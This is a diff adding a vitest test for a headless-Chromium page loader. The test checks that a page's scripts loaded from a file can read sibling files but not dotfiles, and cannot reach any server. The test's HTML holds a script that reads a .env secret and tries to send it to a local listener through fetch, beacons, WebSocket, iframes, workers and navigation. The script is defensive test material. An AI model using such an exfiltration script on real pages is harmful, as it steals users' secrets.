@@ -1,4 +1,6 @@
+import { once } from "node:events";
 import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { createServer } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
@@ -58,6 +60,42 @@ describe.skipIf(reason !== undefined)(`in Chromium${reason ? ` (skipped: ${reaso
       await expect(loader.load({ kind: "file", name: join(folder, "site", "not.html") })).rejects.toThrow("PDF");
     } finally {
       await loader.close();
+    }
+  });
+
+  test("scripts of a page from a file read the files beside it, but no dotfile, and reach no server", async () => {
+    let connections = 0;
+    const server = createServer((socket) => {
+      connections++;
+      socket.on("error", () => socket.destroy()).end("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
+    }).listen(0, "127.0.0.1");
+    await once(server, "listening");
+    const { port } = server.address() as { port: number };
+    await writeFile(join(folder, "site", ".env"), "KEY=secret");
+    await writeFile(join(folder, "site", "note.txt"), "a note");
+    const leak = `127.0.0.1:${port}/`;
+    const script = `(async () => {
+      const read = (path) => fetch(path).then((r) => r.text(), () => "refused");
+      const texts = [await read("note.txt"), await read(".env")];
+      p.textContent = texts.join(" and ");
+      const sent = "http://${leak}?" + encodeURIComponent(texts.join());
+      fetch(sent, { mode: "no-cors" }).catch(() => 0); new Image().src = sent; navigator.sendBeacon(sent, "x");
+      new WebSocket("ws://${leak}"); window.open(sent); document.body.append(Object.assign(document.createElement("iframe"), { src: sent }));
+      new Worker(URL.createObjectURL(new Blob(["fetch('" + sent + "')"])));
+      location = sent;
+    })()`;
+    await writeFile(join(folder, "site", "leak.html"), `<p id=p>Text</p><script>${script}</script>`);
+    const { executablePath } = await findBrowser({ prefer: "npm" });
+    const settings = { ...defined(renderSettings({ scripts: true })), executablePath, sandbox: false } as const;
+    const loader = await openRenderLoader(openLoader({}), { ...settings, allowPrivate: true });
+    try {
+      const { page, notices } = await loader.load({ kind: "file", name: join(folder, "site", "leak.html") });
+      expect(defined(page).source).toContain("a note and refused");
+      expect(notices?.map(({ message }) => message).join()).toMatch(/requests to the network blocked.*--url/);
+      expect(connections).toBe(0);
+    } finally {
+      await loader.close();
+      server.close();
     }
   });
 });
